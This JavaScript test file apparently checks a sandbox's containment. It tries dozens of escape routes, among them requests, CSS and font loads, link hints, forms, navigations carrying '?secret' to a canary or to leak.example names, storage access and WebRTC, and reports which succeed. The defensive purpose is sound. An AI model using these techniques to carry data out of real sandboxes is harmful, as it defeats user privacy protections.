// A surface that tries to get out: every way to reach a network, a host, another window or what a browser keeps, and every way to leave its
// page. It is run as an App's own surface in the real host, and as a control in a frame that has nothing but sandbox="allow-scripts".
//
// A task of the state is done once: {kind: "probes" | "leave" | "nothing", name?, canary, second, host}. `canary` and `second` are
// host:port of listeners that should hear nothing, `host` is the origin of the page. A probe that got what it wanted says "OK…".

const OWN_SOURCE = document.currentScript.textContent;
const isNested = parent !== top;
if (isNested) parent.postMessage({ nested: `same bytes, RTC ${typeof window.RTCPeerConnection}` }, "*");

const later = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const within = (promise, ms) => Promise.race([promise, later(ms).then(() => "timeout")]);
const make = (tag, given = {}) => Object.assign(document.createElement(tag), given);
const heard = (target, good, bad) =>
  new Promise((resolve) => {
    target[good] = () => resolve("OK");
    target[bad] = () => resolve("error");
  });
const put = (node, into = document.body) => (into.append(node), "done");
const link = (rel, href, more = {}) => put(make("link", { rel, href, ...more }), document.head);
const tryTo = (act) => {
  try {
    return `OK ${act()}`;
  } catch (error) {
    return error.name;
  }
};

function probesOf({ canary, second, host }) {
  const at = (path) => `http:${"//"}${canary}/${path}`;
  const named = (name) => `http:${"//"}${name}.leak.example/`;
  const noCors = { mode: "no-cors" };
  return {
    // --- requests
    fetch: () => fetch(at("fetch"), noCors).then(() => "OK"),
    fetchKeepalive: () => fetch(at("fetch-keepalive"), { ...noCors, keepalive: true }).then(() => "OK"),
    fetchHost: () => fetch(`${host}/?from=surface`, noCors).then(() => "OK"),
    xhr: () => {
      const request = new XMLHttpRequest();
      request.open("GET", at("xhr"));
      request.send();
      return heard(request, "onload", "onerror");
    },
    webSocket: () => heard(new WebSocket(`ws:${"//"}${canary}/ws`), "onopen", "onerror"),
    webSocketHost: () => heard(new WebSocket(`${host.replace("http", "ws")}/ws`), "onopen", "onerror"),
    eventSource: () => heard(new EventSource(at("sse")), "onopen", "onerror"),
    beacon: () => (navigator.sendBeacon(at("beacon"), "x") ? "sent" : "no"),
    webTransport: async () => {
      await new WebTransport(`https:${"//"}${canary}/wt`).ready;
      return "OK";
    },
    image: () => heard(make("img", { src: at("image") }), "onload", "onerror"),
    imageHost: () => heard(make("img", { src: `${host}/static/icon.svg` }), "onload", "onerror"),
    video: () => {
      const video = make("video", { src: at("video") });
      put(video);
      return heard(video, "onloadeddata", "onerror");
    },
    audio: () => heard(make("audio", { src: at("audio"), preload: "auto" }), "onloadeddata", "onerror"),
    object: () => put(make("object", { data: at("object") })),
    embed: () => put(make("embed", { src: at("embed") })),
    svgImage: () => {
      const box = make("div");
      box.innerHTML = `<svg><image href="${at("svg-image")}"/><use href="${at("svg-use")}#a"/></svg>`;
      return put(box);
    },
    // --- styles and fonts
    styleImport: () => put(make("style", { textContent: `@import url(${at("css-import")});` }), document.head),
    styleImage: () => ((document.body.style.backgroundImage = `url(${at("css-image")})`), "done"),
    styleCursor: () => ((document.body.style.cursor = `url(${at("css-cursor")}), auto`), "done"),
    styleFont: () => {
      put(make("style", { textContent: `@font-face { font-family: zz; src: url(${at("css-font")}); } body { font-family: zz; }` }));
      return put("text in that font");
    },
    fontFace: async () => {
      await new FontFace("q", `url(${at("font-face")})`).load();
      return "OK";
    },
    linkStyle: () => {
      const sheet = make("link", { rel: "stylesheet", href: at("link-style") });
      put(sheet, document.head);
      return heard(sheet, "onload", "onerror");
    },
    // --- scripts and workers
    scriptElement: () => {
      const script = make("script", { src: at("script") });
      put(script, document.head);
      return heard(script, "onload", "onerror");
    },
    scriptImport: () => import(at("import")).then(() => "OK"),
    scriptData: () => import("data:text/javascript,export default 1").then(() => "OK"),
    scriptBlob: () => import(URL.createObjectURL(new Blob(["export default 1"], { type: "text/javascript" }))).then(() => "OK"),
    scriptInline: () => {
      put(make("script", { textContent: "window.inlineRan = true" }), document.head);
      return window.inlineRan ? "OK" : "blocked";
    },
    scriptHandler: () => {
      const button = make("button");
      button.setAttribute("onclick", "window.handlerRan = true");
      put(button);
      button.click();
      return window.handlerRan ? "OK" : "blocked";
    },
    evalText: () => tryTo(() => (0, eval)("1")),
    functionText: () => tryTo(() => new Function("return 1")()),
    timerText: async () => {
      setTimeout("window.timerRan = true", 0);
      await later(50);
      return window.timerRan ? "OK" : "blocked";
    },
    wasm: async () => {
      await WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));
      return "OK";
    },
    workerBlob: () => {
      const source = `fetch("${at("worker-fetch")}", { mode: "no-cors" }).then(() => postMessage("OK"), () => postMessage("no"))`;
      const worker = new Worker(URL.createObjectURL(new Blob([source])));
      return new Promise((resolve) => {
        worker.onmessage = (event) => resolve(event.data);
        worker.onerror = () => resolve("error");
      });
    },
    sharedWorker: () => {
      const worker = new SharedWorker("data:text/javascript,onconnect = (e) => e.ports[0].postMessage(1)");
      return heard(Object.assign(worker, { onmessage: null }).port, "onmessage", "onmessageerror");
    },
    serviceWorker: async () => {
      await navigator.serviceWorker.register(`${host}/static/app.js`);
      return "OK";
    },
    // --- hints
    prefetch: () => link("prefetch", at("prefetch")),
    preload: () => link("preload", at("preload"), { as: "image" }),
    modulePreload: () => link("modulepreload", at("modulepreload")),
    icon: () => link("icon", at("icon")),
    manifest: () => link("manifest", at("manifest")),
    preconnect: () => link("preconnect", `http:${"//"}${second}`),
    preconnectName: () => link("preconnect", named("preconnect")),
    dnsPrefetch: () => link("dns-prefetch", named("dns-prefetch")),
    dnsPrefetchOn: () => {
      put(make("meta", { httpEquiv: "x-dns-prefetch-control", content: "on" }), document.head);
      return link("dns-prefetch", named("dns-prefetch-on"));
    },
    anchorName: () => put(make("a", { href: named("anchor"), textContent: "a" })),
    speculation: () => {
      const list = [{ source: "list", urls: [at("speculation")] }];
      const textContent = JSON.stringify({ prefetch: list, prerender: list });
      return put(make("script", { type: "speculationrules", textContent }), document.head);
    },
    // --- frames, windows, forms
    subframe: () => put(make("iframe", { src: at("subframe") })),
    subframeText: () => put(make("iframe", { srcdoc: `<img src="${at("subframe-text")}">` })),
    subframeBlank: () => {
      const frame = make("iframe");
      put(frame);
      return tryTo(() => typeof frame.contentWindow.RTCPeerConnection);
    },
    form: () => (formTo(at("form"), ""), "done"),
    formTop: () => (formTo(at("form-top"), "_top"), "done"),
    windowOpen: () => (window.open(at("window-open")) ? "OK" : "null"),
    anchorBlank: () => (anchorTo(at("anchor-blank"), "_blank"), "done"),
    anchorTop: () => (anchorTo(at("anchor-top"), "_top"), "done"),
    anchorPing: () => (anchorTo("#here", "", { ping: at("anchor-ping") }), "done"),
    topNavigation: () => tryTo(() => (top.location.href = at("top"))),
    parentDocument: () => tryTo(() => parent.document.title),
    parentAddress: () => tryTo(() => parent.location.href),
    parentStorage: () => tryTo(() => parent.sessionStorage.length),
    broadcast: () => (new BroadcastChannel("lineup").postMessage("leak"), "done"),
    // --- what a browser keeps, and what a machine has
    cookie: () => tryTo(() => ((document.cookie = "a=1"), document.cookie)),
    localStorage: () => tryTo(() => (localStorage.a = 1)),
    sessionStorage: () => tryTo(() => (sessionStorage.a = 1)),
    indexedDb: () => heard(indexedDB.open("a"), "onsuccess", "onerror"),
    cacheStorage: () => caches.open("a").then(() => "OK"),
    privateFiles: () => navigator.storage.getDirectory().then(() => "OK"),
    clipboardWrite: () => navigator.clipboard.writeText("x").then(() => "OK"),
    clipboardRead: () => navigator.clipboard.readText().then(() => "OK"),
    screen: () => navigator.mediaDevices.getDisplayMedia().then(() => "OK"),
    place: () => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve("OK"), () => resolve("refused"))),
    notification: () => Notification.requestPermission().then((answer) => (answer === "granted" ? "OK" : answer)),
    fullscreen: () => document.documentElement.requestFullscreen().then(() => "OK"),
    referrer: () => (document.referrer ? "OK" : "empty"),
    // --- a connection that no policy of sources knows
    peerConnection: () => peerConnection(canary),
    nestedSame: () => nested(`<script>${OWN_SOURCE}<\/script>`),
    nestedOther: () => nested(`<script>parent.postMessage({ nested: "OK " + typeof RTCPeerConnection }, "*")<\/script>`),
  };
}

function formTo(action, target) {
  const form = make("form", { action, target, method: "post" });
  put(form);
  form.submit();
}

function anchorTo(href, target, more = {}) {
  const anchor = make("a", { href, target, ...more });
  put(anchor);
  anchor.click();
}

async function peerConnection(canary) {
  const servers = [{ urls: `stun:${canary}` }, { urls: `turn:${canary}?transport=tcp`, username: "a", credential: "b" }];
  const peer = new RTCPeerConnection({ iceServers: servers });
  peer.createDataChannel("x");
  await peer.setLocalDescription(await peer.createOffer());
  await later(700);
  return "OK";
}

function nested(srcdoc) {
  return new Promise((resolve) => {
    addEventListener("message", (event) => event.data?.nested && resolve(event.data.nested));
    put(make("iframe", { srcdoc }));
  });
}

const waysOut = (canary, host) => {
  const at = (path) => `http:${"//"}${canary}/${path}`;
  const page = (text) => URL.createObjectURL(new Blob([text], { type: "text/html" }));
  return {
    location: () => (location = at("location?secret")),
    replace: () => location.replace(at("replace?secret")),
    metaRefresh: () => document.head.insertAdjacentHTML("beforeend", `<meta http-equiv="refresh" content="0;url=${at("meta?secret")}">`),
    anchor: () => anchorTo(at("anchor?secret"), ""),
    download: () => anchorTo(at("download?secret"), "", { download: "x" }),
    name: () => (location = `http:${"//"}secret.leak.example/`),
    openSelf: () => open(at("open-self?secret"), "_self"),
    script: () => (location = "javascript:void parent.postMessage({ left: 1 }, '*')"),
    data: () => (location = `data:text/html,<img src="${at("data?secret")}">`),
    blob: () => (location = page(`<img src="${at("blob?secret")}">`)),
    host: () => (location = `${host}/?secret`),
    reload: () => location.reload(),
  };
};

async function probe(task) {
  const found = {};
  for (const [name, act] of Object.entries(probesOf(task))) {
    try {
      found[name] = String(await within(act(), 900));
    } catch (error) {
      found[name] = `throws ${error.name}`;
    }
  }
  return found;
}

let done = null; // the number of the last task; what was there before this document is not done again, but for "nothing"
lineup.surface.onState(async (state) => {
  const task = state.task ?? { number: 0 };
  const isNew = task.kind === "nothing" ? state.report === undefined : done !== null && task.number > done;
  done = Math.max(done ?? 0, task.number);
  if (!isNew || isNested) return;
  if (task.kind === "probes") await lineup.surface.patch({ report: await probe(task) });
  else if (task.kind === "leave") waysOut(task.canary, task.host)[task.name]();
  else await lineup.surface.patch({ report: { here: true, RTC: typeof window.RTCPeerConnection } });
});
